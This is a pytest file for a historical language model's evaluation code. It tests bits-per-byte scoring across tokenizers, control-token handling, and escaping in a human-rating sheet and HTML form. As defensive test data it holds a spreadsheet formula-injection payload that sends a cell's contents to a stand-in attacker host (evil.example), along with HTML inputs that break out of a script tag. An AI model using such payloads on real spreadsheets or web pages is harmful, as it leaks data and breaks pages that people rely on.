"""Hostile round 17, evaluation: a compared model of another tokenizer scored another stretch of
the text under the quick mode's token cap (its bits per byte were of other bytes); the blind
ratings sheet kept texts a spreadsheet opens as formulas; a text holding ``<!--<script`` stopped
the rating form's script. Also pinned: bits per byte is the hand computation over the UTF-8 bytes
of the text scored, and control-token strings written in a text are scored as text."""
from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
import subprocess

import pytest

from conftest import SAMPLE_TEXTS


@pytest.fixture(scope="module")
def other_tokenizer_model(tmp_path_factory):
    """A tiny GPT-2 whose tokenizer has ~270 tokens (near-byte pieces): it needs several times as
    many tokens as the tiny model's 512 for the same text."""
    from transformers import AutoTokenizer

    from londonlm.tokens.tokenizer import save_tokenizer, train_bpe
    from londonlm.training.model import ModelShape, build_model, padded_vocab

    tok_dir, out = tmp_path_factory.mktemp("tok270"), tmp_path_factory.mktemp("model270")
    eras = ["<|1600s|>", "<|1650s|>", "<|1800s|>"]
    save_tokenizer(train_bpe(SAMPLE_TEXTS * 20, vocab_size=270, min_frequency=2, era_tokens=eras,
                             show_progress=False), tok_dir, model_max_length=64, era_tokens=eras)
    tok = AutoTokenizer.from_pretrained(str(tok_dir))
    shape = ModelShape(n_layer=1, n_head=2, n_embd=16, n_positions=64, vocab_size=padded_vocab(len(tok)))
    build_model(shape, tok.bos_token_id, tok.eos_token_id, tok.pad_token_id, seed=0).save_pretrained(str(out))
    tok.save_pretrained(str(out))
    return out


def test_bits_per_byte_is_the_hand_computation_over_the_utf8_bytes_scored(tiny_model_dir):
    """One document that fits the window: bpb = the sum of -ln p(token | before) over every
    token but the first, / (ln 2 x its UTF-8 bytes), non-ASCII letters counted as their bytes."""
    import torch

    from londonlm.evaluation.metrics.lm import evaluate_lm
    from londonlm.evaluation.model import load_for_evaluation
    from londonlm.generation import encode_text

    lm = load_for_evaluation(tiny_model_dir, "cpu")
    text = "The Lord Mayor went down to the river; the watermen rowed him to Westminster: café ſ £"
    ids = encode_text(lm.tokenizer, text)
    assert len(ids) <= lm.model.config.n_positions
    with torch.no_grad():
        logits = lm.model(torch.tensor([ids])).logits[0, :-1]
    nll = torch.nn.functional.cross_entropy(logits, torch.tensor(ids[1:]), reduction="sum").item()
    r = evaluate_lm(lm.model, lm.tokenizer, [text], device="cpu")
    assert r["bytes"] == len(text.encode("utf-8")) > len(text) and r["tokens"] == len(ids) - 1
    assert r["bits_per_byte"] == pytest.approx(nll / (math.log(2) * len(text.encode("utf-8"))), rel=1e-5)


def test_control_token_strings_written_in_a_text_are_scored_as_text(tiny_model_dir):
    """``<|endoftext|>`` typed in a held-out text is its 13 characters, not the document boundary."""
    from londonlm.evaluation.model import load_for_evaluation
    from londonlm.generation import encode_text

    tok = load_for_evaluation(tiny_model_dir, "cpu").tokenizer
    ids = encode_text(tok, "<|endoftext|><|1650s|>")
    assert tok.convert_tokens_to_ids("<|endoftext|>") not in ids and len(ids) > 2


def test_a_compared_model_of_another_tokenizer_scores_the_bytes_the_model_scored(
        tiny_model_dir, other_tokenizer_model, tmp_path):
    """Under a token cap (the quick mode's 20,000), each compared model scored up to the cap in
    its own tokens: one of near-byte tokens covered about a third of the text the evaluated
    model scored (tiny model: 198 tokens over 818 bytes; the other: 185 tokens over ~300 bytes),
    and its bits per byte, the column said to compare across tokenizers, was of other text."""
    from londonlm.evaluation.metrics.lm import evaluate_lm
    from londonlm.evaluation.model import load_for_evaluation
    from londonlm.evaluation.run import EvaluationSettings, run_evaluation

    texts = ["".join(SAMPLE_TEXTS) * 2, "".join(reversed(SAMPLE_TEXTS)) * 2]
    settings = EvaluationSettings(compare=(other_tokenizer_model,), max_eval_tokens=200, device="cpu",
                                  leakage_limit=4)
    m = run_evaluation(tiny_model_dir, tmp_path / "out", settings, val_texts=texts, log=lambda *_: None)
    main, other = (next(r for r in m["compare"] if r["path"] == str(p))
                   for p in (tiny_model_dir, other_tokenizer_model))
    v = m["lm"]["validation"]
    assert v["truncated"] and main["bytes"] == v["bytes"]
    assert other["bytes"] == v["bytes"] and other["tokens"] > v["tokens"]
    # the figure is the other model's over exactly that text: the first document, cut where the cap fell
    tiny, lm = load_for_evaluation(tiny_model_dir, "cpu"), load_for_evaluation(other_tokenizer_model, "cpu")
    capped = evaluate_lm(tiny.model, tiny.tokenizer, texts, max_eval_tokens=200, return_texts=True)["texts"]
    assert other["bits_per_byte"] == pytest.approx(evaluate_lm(lm.model, lm.tokenizer, capped)["bits_per_byte"])
    assert "texts" not in v  # the corpus's text is not written into metrics.json


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "--said he, and went", "+44 20 7946 0000",
            "@SUM(A1:A9)", "\tindented", "=1+1"]


def test_a_text_a_spreadsheet_reads_as_a_formula_is_text_in_the_ratings_sheet(tmp_path):
    """A passage opening with ``=``, ``+``, ``-``, ``@`` (Gutenberg's ``--`` dash), or a tab was
    written as it was: a spreadsheet opening ratings_sheet.csv made it a formula (a live
    HYPERLINK, or ``#NAME?`` in place of the text raters were to read)."""
    from londonlm.evaluation.human_eval import aggregate, export_blind, import_ratings

    rows = [{"prompt": f, "text": f} for f in FORMULAS] + [{"prompt": " the river", "text": " ran black"}]
    pack = export_blind({"m": rows}, tmp_path, seed=1)
    sheet = list(csv.DictReader(io.StringIO((tmp_path / "ratings_sheet.csv").read_text(encoding="utf-8"))))
    cells = {r["text"] for r in sheet} | {r["prompt"] for r in sheet}
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert {"'" + f for f in FORMULAS} <= cells and {" the river", " ran black"} <= cells  # others as they were
    # the form shows the texts as they are, and a filled sheet still imports against the key
    assert all(json.dumps(f, ensure_ascii=False)[1:-1].replace("<", "\\u003c") in
               (tmp_path / "rating_form.html").read_text(encoding="utf-8") for f in FORMULAS[1:3])
    for r in sheet:
        r["fluency"] = "3"
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(sheet[0]))
    w.writeheader()
    w.writerows(sheet)
    (tmp_path / "filled.csv").write_text(buf.getvalue(), encoding="utf-8")
    rated = import_ratings([tmp_path / "filled.csv"], pack["key"])
    assert aggregate(rated)["m"]["fluency"]["n"] == len(rows)


HOSTILE = [{"item_id": "a1", "prompt": "<!--<script>", "text": "all is well"},
           {"item_id": "b2", "prompt": "x</script><b>bold</b> \u2028 & ' \" $title", "text": "<!-- -->"}]


def test_a_text_holding_an_html_comment_and_a_script_tag_keeps_the_rating_form_whole(tmp_path):
    """``<!--<script`` inside the form's script (model output; an HTML source in the corpus) put
    the HTML parser in the script's "double escaped" state, where the page's own ``</script>``
    did not close it: the script ran to the end of the page, failed, and the form showed no
    item. Every ``<`` in the data is now ``\\u003c``, the same string to the script."""
    from londonlm.evaluation.human_eval import render_form

    page = render_form(HOSTILE, "londonlm <eval>")
    script = page[page.index("<script>") + len("<script>"):page.rindex("</script>")]
    data = re.search(r"const ITEMS = (.*?);\nconst CRITERIA", script, re.S).group(1)
    assert "<" not in data and "<!--" not in script and "</" not in script
    assert json.loads(data) == HOSTILE
    if shutil.which("node"):  # the browser's reading of the literal, where node is at hand
        out = subprocess.run(["node", "-e", f"const ITEMS = {data}; process.stdout.write(JSON.stringify(ITEMS))"],
                             capture_output=True, text=True, timeout=30)
        assert json.loads(out.stdout) == HOSTILE, out.stderr
